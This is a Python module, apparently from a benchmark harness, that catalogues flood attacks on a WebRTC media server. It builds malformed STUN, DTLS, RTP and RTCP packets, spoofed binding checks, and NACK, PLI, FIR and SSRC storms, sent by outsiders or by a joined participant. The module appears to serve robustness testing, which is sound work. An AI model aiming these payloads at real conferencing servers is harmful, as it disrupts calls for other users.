"""The kinds of datagrams that mean harm, as data: what strangers send, and what a joined person sends with its own
keys. Each kind says how its templates are made ready; native/flooder.c does that and sends them.

Not here: sending (`flood.py`), who is harmed (`harm.py`).
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from enum import Enum, IntEnum

from aioice import stun

from bench.description import VP8

RTP_BYTES = 1100
HOLLOW = 200
"""Bytes of a packet whose content is of no interest."""

RTCP_MOST = 1380
"""Of a report in clear: sealed it fits into what networks carry."""

OVERSIZED = (1650, 1800, 2000, 2100, 3000, 4000, 9000, 65000)
"""Bytes: what no network card brings in one piece, up to what UDP can carry."""

TCP_SHARE = 0.4

SENDER_SSRC = 0x42424242
"""Of reports: nobody looks at it."""

UNKNOWN_SSRC = 0x13131313


class Who(Enum):
    STRANGER = "a stranger"
    JOINED = "a joined person"
    NOBODY = "nobody"
    """A control: the same at a socket that nobody reads. What is seen then is the flood's own weight on the machine."""


class Seal(IntEnum):
    """As in native/flooder.h."""

    CLEAR, RTP, RTCP = range(3)


@dataclass(frozen=True)
class Known:
    """What the attacker knows. A stranger has read some of it on its way; the keys are the joined person's own."""

    victim: str
    """USERNAME of another, joined person's checks."""
    checks: Sequence[bytes]
    """The joined attacker's own, right in every way."""
    hello: bytes
    """A DTLS ClientHello as anybody sends it."""
    ssrc: int
    """Of the joined attacker's camera."""
    slot_ssrc: int
    """Of what the joined attacker receives."""
    mid_id: int
    transport_id: int


@dataclass(frozen=True)
class Ammunition:
    """Templates, used in turn, and what is done with each before it is sent. See `struct flood_plan`."""

    templates: Sequence[bytes]
    seal: Seal = Seal.CLEAR
    fresh: tuple[int, int] | None = None
    """From this byte on, up to that one (0: to the end), each datagram has random bytes of its own."""
    strangers: bool = False
    copies: bool = False
    asks: bool = False
    frames: int = 0
    transport_at: int = 0
    share: float = 1.0
    """Of the flood's rate: what costs the generator more comes less often, or it would be what is measured."""


@dataclass(frozen=True)
class Attack:
    name: str
    who: Who
    load: Callable[[Known], Ammunition]


# What strangers can send ---------------------------------------------------------------------------------------


def _binding_request(username: str, password: str) -> bytes:
    message = stun.Message(message_method=stun.Method.BINDING, message_class=stun.Class.REQUEST)
    message.attributes["USERNAME"] = username
    message.attributes["PRIORITY"] = 2130706431
    message.attributes["ICE-CONTROLLING"] = 4711
    message.attributes["USE-CANDIDATE"] = None
    message.add_message_integrity(password.encode())
    return bytes(message)


def _junk(start: bytes, lengths: Sequence[int] = (24, 100, 400, 1200)) -> Ammunition:
    return Ammunition([start + bytes(length - len(start)) for length in lengths], fresh=(len(start), 0))


def _stun_junk() -> Ammunition:
    lengths = (40, 100, 400, 1200)
    headers = [struct.pack("!HHI", 1, length - 20, stun.COOKIE) for length in lengths]
    return Ammunition(
        [header + bytes(length - 8) for header, length in zip(headers, lengths, strict=True)], fresh=(8, 0)
    )


# What only a joined person can send ----------------------------------------------------------------------------


def rtp(ssrc: int, payload: bytes = bytes(HOLLOW), extension: bytes = b"", flags: int = 0) -> bytes:
    """`extension`: with its profile and length, padding not checked."""
    first = 0x80 | (0x10 if extension else 0) | flags
    return struct.pack("!BBHII", first, VP8, 0, 0, ssrc) + extension + payload


def extension(body: bytes, profile: int = 0xBEDE, words: int | None = None) -> bytes:
    """RFC 8285. `words`: another length than it has."""
    body += bytes(-len(body) % 4)
    return struct.pack("!HH", profile, len(body) // 4 if words is None else words) + body


def _bad_padding(known: Known) -> Ammunition:
    ends = (0, 1 + HOLLOW, 255)
    packets = [rtp(known.ssrc, bytes(HOLLOW - 1) + bytes([end]), flags=0x20) for end in ends]
    return Ammunition([*packets, rtp(known.ssrc, b"", flags=0x20)], Seal.RTP)


def _bad_extensions(known: Known) -> Ammunition:
    element = bytes([known.mid_id << 4 | 15, 1, 2, 3])
    found = [
        extension(element),
        extension(bytes([known.mid_id, 255, 1, 2]), profile=0x1000),
        extension(bytes([known.transport_id << 4])),
        extension(bytes([known.mid_id << 4 | 0]) * 4),
        extension(b"\xf0" * 64),
        extension(bytes(4 * 255)),
        extension(b"", words=0xFFFF),
        extension(element, profile=0xFFFF),
    ]
    return Ammunition([*(rtp(known.ssrc, extension=each) for each in found), rtp(known.ssrc, flags=15)], Seal.RTP)


def _named(known: Known) -> bytes:
    """A header extension with the MID of the attacker's camera."""
    return extension(bytes([known.mid_id << 4 | 0]) + b"0")


def feedback(kind: int, form: int, media_ssrc: int, body: bytes = b"") -> bytes:
    """One feedback message (RFC 4585, section 6.1), `body` a multiple of four bytes."""
    return struct.pack("!BBHII", 0x80 | form, kind, 2 + len(body) // 4, SENDER_SSRC, media_ssrc) + body


def _filled(part: bytes, most: int = RTCP_MOST) -> bytes:
    """As many as fit, one behind the other."""
    return part * (most // len(part))


def _pli(known: Known) -> bytes:
    return feedback(206, 1, known.slot_ssrc)


def _fir(known: Known) -> bytes:
    entries = b"".join(struct.pack("!II", known.slot_ssrc, number << 24) for number in range(150))
    return feedback(206, 4, 0, entries)


def _huge_reports(known: Known) -> bytes:
    """Receiver and sender reports with all the blocks that they can have, about streams there are and are not."""
    blocks = b"".join(
        struct.pack("!IIIIII", known.slot_ssrc if number % 2 else UNKNOWN_SSRC + number, 0xFF123456, 1, 2, 3, 4)
        for number in range(31)
    )
    receiver = struct.pack("!BBHI", 0x80 | 31, 201, (8 + len(blocks)) // 4 - 1, SENDER_SSRC) + blocks
    rest = blocks[: 24 * 24]
    sender = struct.pack("!BBHIIIIII", 0x80 | 24, 200, (28 + len(rest)) // 4 - 1, known.ssrc, 1, 2, 3, 4, 5) + rest
    return receiver + sender


def _huge_transport_feedback(known: Known) -> bytes:
    """Claims to report 65,535 packets, with more chunks than those (draft-holmer-rmcat-transport-wide-cc)."""
    chunks = struct.pack("!H", 0x3FFF) * 8 + struct.pack("!H", 0xD555) * 640
    return feedback(205, 15, known.slot_ssrc, struct.pack("!HHI", 0, 0xFFFF, 0x00000100) + chunks)


def _truncated(known: Known) -> Ammunition:
    whole = _pli(known)
    report = struct.pack("!BBHI", 0x80 | 31, 201, 1, SENDER_SSRC)
    parts = [
        report,
        struct.pack("!BBHI", 0x80 | 31, 200, 6, SENDER_SSRC) + bytes(20),
        struct.pack("!BBHI", 0x81, 205, 0xFFFF, SENDER_SSRC) + bytes(16),
        struct.pack("!BBHI", 0x81, 206, 1, SENDER_SSRC),
        whole + whole[:8],
        whole + b"\x00" * 8,
        struct.pack("!BBHI", 0x81, 205, 0, SENDER_SSRC),
    ]
    return Ammunition(parts, Seal.RTCP)


def _picture(known: Known) -> Ammunition:
    """What a camera sends, each packet a whole key frame, more of it than any camera."""
    numbered = extension(bytes([known.transport_id << 4 | 1, 0, 0]))
    frame = b"\x90\x80\x80\x00" + b"\x10\x02\x00\x9d\x01\x2a\x00\x05\xd0\x02"
    payload = frame + bytes(RTP_BYTES - 12 - len(numbered) - len(frame))
    return Ammunition([rtp(known.ssrc, payload, numbered)], Seal.RTP, transport_at=17)


def _oversized(known: Known) -> Ammunition:
    return Ammunition([rtp(known.ssrc, bytes(length)) for length in OVERSIZED], fresh=(12, 0))


def _stranger(name: str, load: Callable[[Known], Ammunition]) -> Attack:
    return Attack(name, Who.STRANGER, load)


def _joined(name: str, load: Callable[[Known], Ammunition]) -> Attack:
    return Attack(name, Who.JOINED, load)


def _reports(make: Callable[[Known], bytes]) -> Callable[[Known], Ammunition]:
    return lambda known: Ammunition([make(known)], Seal.RTCP)


DTLS_ALERT = b"\x15\xfe\xfd\x00\x00" + bytes(6) + b"\x00\x02\x02\x28"
WRONG = "not-the-password-of-anyone"

ATTACKS: tuple[Attack, ...] = (
    Attack("control: at nobody", Who.NOBODY, lambda known: _junk(b"")),
    _stranger("empty", lambda known: Ammunition([b""])),
    _stranger("one byte", lambda known: Ammunition([b"\x00", b"\x16", b"\x80", b"\xff"])),
    _stranger("random bytes", lambda known: _junk(b"")),
    _stranger("junk that begins like RTP", lambda known: _junk(b"\x80\x60")),
    _stranger("junk that begins like RTCP", lambda known: _junk(b"\x80\xc8\x00\x06")),
    _stranger("junk that begins like DTLS", lambda known: _junk(b"\x16\xfe\xfd\x00\x00")),
    _stranger("junk that begins like STUN", lambda known: _stun_junk()),
    _stranger(
        "checks with a name that nobody has",
        lambda known: Ammunition([_binding_request("strangerstra:stra", WRONG)], fresh=(8, 20)),
    ),
    _stranger(
        "checks with a joined person's name",
        lambda known: Ammunition([_binding_request(known.victim, WRONG)], fresh=(8, 20)),
    ),
    # the random stands behind two headers and a version: records.py, hello_random
    _stranger("ClientHello, no check before", lambda known: Ammunition([known.hello], fresh=(27, 59))),
    _stranger(
        "SRTP copied, from elsewhere", lambda known: Ammunition([rtp(known.ssrc, bytes(1000))], Seal.RTP, copies=True)
    ),
    _stranger(
        "ICE-TCP connections with junk",
        lambda known: Ammunition(
            [start + bytes(180) for start in (b"\x80\x60", b"\x16\xfe", b"\x00\x01", b"")],
            fresh=(2, 0),
            frames=10,
            share=TCP_SHARE,
        ),
    ),
    _joined("bad padding", _bad_padding),
    _joined("impossible header extensions", _bad_extensions),
    _joined("SSRC storm", lambda known: Ammunition([rtp(known.ssrc)], Seal.RTP, strangers=True)),
    _joined(
        "SSRC storm with the camera's MID",
        lambda known: Ammunition([rtp(known.ssrc, extension=_named(known))], Seal.RTP, strangers=True),
    ),
    _joined(
        "NACK storm",
        lambda known: Ammunition([feedback(205, 1, known.slot_ssrc, bytes(4 * 60))], Seal.RTCP, asks=True),
    ),
    _joined("PLI storm", lambda known: Ammunition([_pli(known), _filled(_pli(known))], Seal.RTCP)),
    _joined("FIR storm", _reports(_fir)),
    _joined("SRTP replayed", lambda known: Ammunition([rtp(known.ssrc, bytes(1000))], Seal.RTP, copies=True)),
    _joined("huge reports", _reports(_huge_reports)),
    _joined("huge transport-wide feedback", _reports(_huge_transport_feedback)),
    _joined("truncated RTCP", _truncated),
    _joined("DTLS records", lambda known: Ammunition([DTLS_ALERT, known.hello, b"\x17" + DTLS_ALERT[1:]])),
    _joined("ClientHello after the handshake", lambda known: Ammunition([known.hello], fresh=(27, 59))),
    _joined("checks, all of them right", lambda known: Ammunition(known.checks)),
    _joined("oversized", _oversized),
    _joined("valid SRTP, too much of it", _picture),
)
